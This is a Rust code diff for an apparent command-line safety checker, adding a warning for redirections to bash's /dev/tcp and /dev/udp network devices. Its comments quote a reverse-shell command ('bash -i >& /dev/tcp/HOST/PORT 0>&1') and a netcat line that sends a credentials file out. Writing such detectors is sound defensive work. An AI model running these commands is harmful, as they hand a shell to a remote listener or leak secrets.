@@ -200,6 +200,7 @@ pub fn check_files(argv: &[String], redirects: &[String], cwd: Option<&str>) -> 
     let mut out = Vec::new();
     // `echo LINE >> ~/.bashrc`: the line is on the command line, and is judged as a line of
     // its own where the command is walked (see `walk`), so its writing is not warned.
+    out.extend(redirects.iter().find_map(|r| shell_network(r, argv)));
     let shown = literal_writer(argv);
     let redirected = redirects.iter().map(String::as_str);
     for w in redirected.chain(written_by(argv)) {
@@ -356,7 +357,28 @@ pub fn is_startup_target(raw: &str) -> bool {
 /// The finding for a file a command's input is redirected from (`nc host < ~/.netrc`), when
 /// it holds credentials.
 pub fn check_read(path: &str, argv: &[String], cwd: Option<&str>) -> Option<Finding> {
+    if let Some(f) = shell_network(path, argv) {
+        return Some(f);
+    }
     is_secret_file(&normalize(path, cwd)).then(|| secret_read(path, argv))
+}
+
+/// A redirection onto bash's network devices (`/dev/tcp/HOST/PORT`, `/dev/udp/…`): the shell
+/// opens the connection itself, so no program on the line names the network —
+/// `bash -i >& /dev/tcp/HOST/PORT 0>&1` hands a shell to whoever listens there.
+fn shell_network(path: &str, argv: &[String]) -> Option<Finding> {
+    let device = path.strip_prefix("/dev/")?;
+    (device.starts_with("tcp/") || device.starts_with("udp/")).then(|| {
+        finding(
+            Severity::Warn,
+            "shell_network",
+            format!(
+                "opens a network connection through the shell ({path}): what the line sends, \
+                 reads or runs goes over it"
+            ),
+            argv,
+        )
+    })
 }
 
 /// The finding for a credentials file a command reads.
